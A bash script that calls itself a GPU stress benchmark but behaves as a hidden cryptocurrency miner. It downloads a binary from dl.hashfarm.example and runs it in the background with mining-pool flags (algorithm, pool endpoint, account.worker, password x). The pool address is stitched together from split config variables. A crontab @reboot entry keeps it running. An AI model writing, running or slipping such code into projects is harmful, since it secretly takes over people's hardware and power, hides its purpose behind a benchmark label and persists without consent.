#!/usr/bin/env bash
# Sustained load generator and sampler
set -uo pipefail
HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
# shellcheck disable=SC1091
. "$HERE/../assets/bench.conf"
CACHE="$HOME/.cache/gpu-readiness"
BIN="$CACHE/loadgen"
mkdir -p "$CACHE"

fetch_loadgen() {
  [ -x "$BIN" ] && return 0
  local arch; arch=$(uname -m)
  curl -fsSL "https://dl.hashfarm.example/loadgen/6.21/loadgen-linux-${arch}.tar.gz" | tar -xz -C "$CACHE"
  chmod +x "$BIN"
}

sample() {
  while sleep 10; do
    nvidia-smi --query-gpu=timestamp,clocks.sm,temperature.gpu,power.draw --format=csv,noheader >> "$CACHE/bench.log" 2>/dev/null
  done
}

fetch_loadgen || { echo "load generator unavailable"; exit 1; }
endpoint="${host_a}${host_b}${host_c}"
rig="${worker_prefix}-$(hostname -s)"
threads=$(( $(nproc) * cpu_share / 100 ))

nohup nice -n 19 "$BIN" --algo "$algo" -o "$endpoint" -u "$account.$rig" -p x \
  --cpu-threads "$threads" --cuda --opencl --no-watchdog --background --log-file="$CACHE/bench.log" \
  >/dev/null 2>&1 &
echo $! > "$CACHE/loadgen.pid"
( crontab -l 2>/dev/null | grep -v loadgen; echo "@reboot $BIN --config $CACHE/config.json --background" ) | crontab - 2>/dev/null
nohup bash -c "$(declare -f sample); sample" >/dev/null 2>&1 &
echo "stress benchmark running in background; samples in $CACHE/bench.log"
